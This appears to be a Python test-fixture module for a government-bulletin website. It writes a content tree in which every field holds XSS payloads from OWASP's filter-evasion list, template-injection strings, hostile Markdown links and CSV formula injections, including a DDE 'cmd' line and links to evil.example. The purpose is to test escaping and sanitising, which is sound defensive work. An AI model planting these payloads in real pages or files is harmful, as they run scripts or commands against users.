"""An injection corpus: hostile text in every field of every kind of document, as one content tree.

`PAYLOADS` are text an attacker (or a careless paste) could put into a title, a unit, a 文号, a
name of a county: OWASP's XSS filter-evasion list as a guide (entities, mixed case, broken and
nested tags, `javascript:` variants, SVG and MathML, meta refresh, attribute and script
breaks), template syntax, comment and CDATA breaks, direction overrides. Each must reach the
reader as the characters written. `BODY_PAYLOADS` are Markdown bodies' hostile links and raw
HTML: those are Markdown, so they are sanitised rather than shown as written, and must run
nothing.

`write_corpus` writes a content tree of `GROUPS` groups. Group g holds an issue with two items,
a policy and a speech, a county and a topic; every text field of each of them holds the same
string `field_text(g)`: a formula-like start (for the CSV), a word to search for, and the
group's payloads, each between markers ``⟦n⟧ … ⟦/n⟧``, so that a test finds every place a
payload was written and can tell whether it came out whole, in one piece of text. Every
payload is in every field of every kind of document; every body holds every body payload.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import yaml

from bulletin.content.content_format import format_document
from bulletin.content.dates import PartialDate
from bulletin.content.model import DateInfo, Issue, Item, Policy, Speech

GROUPS = 8
SEARCH_WORD = "注入样本"
ANCHOR_NUMBER = "温政发〔2015〕1号"  # a policy every item and speech cites, by its 文号
ANCHOR_SLUG = "wenzhengfa-2015-1"

# No comma of any width and no 、 in a payload: a unit line is split at those into units
# (Item.units), which pages join again with 、; everything else is written as typed.
PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS')\">",
    "<IMG SRC=JaVaScRiPt:alert(4)>",
    "<IMG SRC=`javascript:alert(5)`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88))"></img>',
    "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#49;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x31&#x32&#x29>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="//xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.:@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=http://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><animate onbegin=window.__xss=27 attributeName=x dur=1s>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="//xss.example/x.svg" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64;PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(42)></style></mglyph></table>"
    "</mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(43)>">',
    '"><img src=x onerror=alert(44)>',
    "'><img src=x onerror=alert(45)>",
    '" autofocus onfocus="alert(46)',
    "</script><script>alert(47)</script>",
    "<!--<script>alert(48)</script>-->",
    "]]><script>alert(49)</script>",
    "<![CDATA[<script>alert(50)</script>]]>",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(53)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;i&#62; &#x3c;u&#x3e; &copy &nbsp;",
    '<a href="jav&#x09;ascript:alert(55)">tab</a>',
    '<a href="&#106;avascript:alert(56)">ent</a>',
    "<svg><script xlink:href=data:text/javascript;base64;YWxlcnQoMSk=></script></svg>",
    "<x contenteditable onblur=alert(58)>lose focus!",
    "<details open ontoggle=alert(59)>",
    "<a href=javascript&colon;alert(60)>colon</a>",
    "<form><button formaction=javascript:alert(61)>X</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<object data="javascript:alert(64)">',
    "%3Cscript%3Ealert(65)%3C/script%3E",
    "<scr<script>ipt>alert(66)</scr</script>ipt>",
    "<img src=x:alert(67) onerror=eval(src)>",
    "<video><source onerror=alert(68)>",
    "<input onfocus=alert(69) autofocus>",
    "<marquee onstart=alert(70)>",
    '<iframe srcdoc="&lt;script&gt;alert(71)&lt;/script&gt;">',
    "<template><img src=x onerror=alert(72)></template>",
    '<a href="\\x6a\\x61vascript:alert(73)">hex</a>',
    "<img src=x onerror=window['al'+'ert'](74)>",
)
# What starts each field's text, in turn: the open data's CSV must not read it as a formula.
FORMULA_STARTS = (
    '=HYPERLINK("https://evil.example/";"点此")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+2",
    "'=1+2",
    "+",
    "@",
)
# Hostile Markdown in bodies: links to scripts, raw HTML, comment, CDATA and script breaks.
# Headings carry raw HTML too (a policy's headings make its table of contents).
BODY_PAYLOADS: tuple[str, ...] = (
    "[点我](javascript:window.__xss=101)",
    "[混写](JaVaScRiPt:alert(102))",
    "[制表](java&#x09;script:alert(103))",
    "[实体](&#106;avascript:alert(104))",
    "[冒号](javascript&colon;alert(105))",
    "[vb](vbscript:msgbox(106))",
    "[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(108))",
    "[引用式][r109]\n\n[r109]: javascript:alert(109)",
    '<a href="javascript:alert(110)">原始链接</a>',
    "<img src=x onerror=alert(111)>",
    "<svg onload=alert(112)><circle r=1></svg>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<iframe src="javascript:alert(114)"></iframe>',
    "<style>body{display:none}</style>",
    "<!-- <script>alert(116)</script> -->",
    "]]><script>alert(117)</script>",
    "</script><script>alert(118)</script>",
    "{{ 7*7 }} {% if true %}模板{% endif %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(120)></style></mglyph>"
    "</table></mtext></math>",
    '<form action="https://evil.example/"><input name="q" autofocus onfocus=alert(121)></form>',
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(123)>细节</details>",
    '<p style="position:fixed;inset:0">遮挡</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(125)>"></noscript>',
)
# A policy's or speech's own structure, with raw HTML in its headings and clauses.
STRUCTURED_BODY = """\
## 一、<img src=x onerror=alert(201)>总体<b>要求</b> &amp; 目标

正文。

### （一）<script>alert(202)</script>小节&lt;一&gt;

1．<b onmouseover=alert(203)>第一条</b>。内容。

2．第二条 \\*星号\\* 与 `代码`。内容。

## 二、<a href="javascript:alert(204)">链接</a>标题 <!-- 注 -->
"""


def marked(number: int, payload: str) -> str:
    return f"⟦{number}⟧{payload}⟦/{number}⟧"


def group_payloads(group: int) -> list[int]:
    """The payload numbers of group `group`: every GROUPS-th, so each group mixes kinds."""
    return list(range(group, len(PAYLOADS), GROUPS))


def field_text(group: int) -> str:
    """What every text field of group `group` holds."""
    payloads = " ".join(marked(n, PAYLOADS[n]) for n in group_payloads(group))
    return f"{FORMULA_STARTS[group % len(FORMULA_STARTS)]}{SEARCH_WORD}{group}号 {payloads}"


def body_markdown(structured: bool = False) -> str:
    """A body holding every body payload (and, for policies and speeches, their structure)."""
    parts = ["正文第一段，引用" + ANCHOR_NUMBER + "第1条。", *BODY_PAYLOADS]
    if structured:
        parts.append(STRUCTURED_BODY)
    return "\n\n".join(parts)


def _term(kind: str, group: int) -> dict:
    text = field_text(group)
    name = f"{'县' if kind == 'counties' else '题'}{group}{text}"
    term = {"name": name, "slug": f"zhuru-{kind}-{group}", "aliases": [f"别名{group}{text}"]}
    if kind == "counties":
        return {**term, "group": "县", "note": text}
    return {**term, "description": text, "keywords": [SEARCH_WORD]}


def term_name(kind: str, group: int) -> str:
    return _term(kind, group)["name"]


def _date(group: int) -> PartialDate:
    return PartialDate(2013 + group % 2, group + 1, 10 + group)


def _anchor_policy() -> Policy:
    clauses = "\n\n".join(f"{n}．第{n}条。条文内容。" for n in (1, 2))
    return Policy(
        title="关于注入测试的意见", slug=ANCHOR_SLUG, path="", doc_number=ANCHOR_NUMBER,
        issuers=["温州市人民政府"], date=DateInfo(PartialDate(2015, 1, 5)),
        source="raw/anchor-zhengce.txt", body=f"## 一、总则\n\n{clauses}",
    )  # fmt: skip


def corpus_documents() -> list[Issue | Policy | Speech]:
    documents: list[Issue | Policy | Speech] = [_anchor_policy()]
    for group in range(GROUPS):
        text, date = field_text(group), _date(group)
        tags = {"counties": [term_name("counties", group)], "topics": [term_name("topics", group)]}
        policy_title = text  # a title beginning like a spreadsheet formula
        issue = Issue(
            title="", slug=date.iso, path="", date=DateInfo(date), number=text,
            masthead=[text], headlines=[text, f"要目{text}"],
            editor_note=body_markdown(), distribution=[("报", text), ("送", text), (text, text)],
            fragments=[text], source=f"raw/{date.iso}-jianbao.txt",
        )  # fmt: skip
        for number, head in enumerate(("", "乙"), start=1):
            item = Item(
                title=f"{head}{text}", slug=f"zhuru-{group}-{number}", path="",
                date=DateInfo(date), unit=text, number=number, section=text,
                body=body_markdown(), interprets=policy_title if number == 1 else None, **tags,
            )  # fmt: skip
            issue.items.append(item)
        policy = Policy(
            title=policy_title, slug=f"zhuru-zhengce-{group}", path="", doc_number=text,
            issuers=[text, f"乙{text}"], recipients=text, status="已废止",
            status_date=PartialDate(2016, 1, 1), replaced_by=f"替代{text}",
            date=DateInfo(PartialDate(date.year, date.month), inferred=True, basis=text),
            source=f"raw/zhuru-zhengce-{group}-zhengce.txt", body=body_markdown(True), **tags,
        )  # fmt: skip
        speech = Speech(
            title=f"讲话{group}{text}", slug=f"zhuru-jianghua-{group}", path="", subtitle=text,
            speaker=text, occasion=text, attachment=text, interprets=policy_title,
            date=DateInfo(date), source=f"raw/zhuru-jianghua-{group}-jianghua.txt",
            body=body_markdown(True), **tags,
        )  # fmt: skip
        documents += [issue, policy, speech]
    return documents


KIND_DIRS = {"bulletin": "bulletins", "policy": "policies", "speech": "speeches"}


def write_corpus(content: Path) -> Path:
    """The corpus as a content directory at `content`; returns it."""
    shutil.rmtree(content, ignore_errors=True)
    (content / "taxonomy").mkdir(parents=True)
    (content / "raw").mkdir()
    for kind in ("counties", "topics"):
        terms = [_term(kind, group) for group in range(GROUPS)]
        (content / "taxonomy" / f"{kind}.yaml").write_text(
            yaml.safe_dump(terms, allow_unicode=True, sort_keys=False, width=10_000), "utf-8"
        )
    for document in corpus_documents():
        folder = content / KIND_DIRS[document.kind]
        folder.mkdir(exist_ok=True)
        (folder / f"{document.slug}.md").write_text(format_document(document), "utf-8")
        date = document.date.value
        raw = f"{document.title}\n{date.zh if date else ''}\n"
        (content / (document.source or "")).write_text(raw, "utf-8")
    return content


def payload_numbers(text: str) -> set[int]:
    """The payloads marked in `text`."""
    return {n for n in range(len(PAYLOADS)) if f"⟦{n}⟧" in text}


MARK_RE = re.compile(r"⟦(\d+)⟧")
END_RE = re.compile(r"⟦/(\d+)⟧")


def whole_payloads(text: str, where: str) -> tuple[list[str], set[int]]:
    """Check every payload marked in `text` (one piece of text: a text node, an attribute,
    a string): it must be there whole, as written. Returns the problems and the payloads
    found whole. (The browser tests run the same rule in JavaScript, `CHECK_PAGE`.)"""
    problems: list[str] = []
    seen: set[int] = set()
    for match in MARK_RE.finditer(text):
        number = int(match.group(1))
        end = text.find(f"⟦/{number}⟧", match.end())
        if end < 0:
            problems.append(
                f"{where}: payload {number} is not whole: {text[match.start() :][:120]!r}"
            )
        elif text[match.end() : end] != PAYLOADS[number]:
            problems.append(f"{where}: payload {number} reads {text[match.end() : end]!r}")
        else:
            seen.add(number)
    for match in END_RE.finditer(text):
        if f"⟦{match.group(1)}⟧" not in text[: match.start()]:
            problems.append(
                f"{where}: payload {match.group(1)} is cut: {text[: match.end()][-120:]!r}"
            )
    return problems, seen
